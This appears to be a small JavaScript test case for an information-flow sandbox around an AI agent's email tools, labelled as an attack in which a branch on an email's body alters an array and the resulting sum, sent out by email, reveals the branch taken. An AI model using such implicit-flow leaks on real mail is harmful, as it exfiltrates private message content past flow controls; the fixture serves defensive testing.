// attack: a number-only reducer (native copy) folds an array whose length a branch on the email decided; the sum says which branch ran
// normal: leaks (implicit flow, allowed in NORMAL mode: the push ran in a branch)
const m = await getEmail('m1');
function add(a, b) {
  return a + b;
}
const xs = [1, 2];
if (m.body.includes('a')) xs.push(4);
const total = xs.reduce(add, 0);
const doubled = xs.map((x) => x * 2);
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: String(total) + String(doubled.length) });
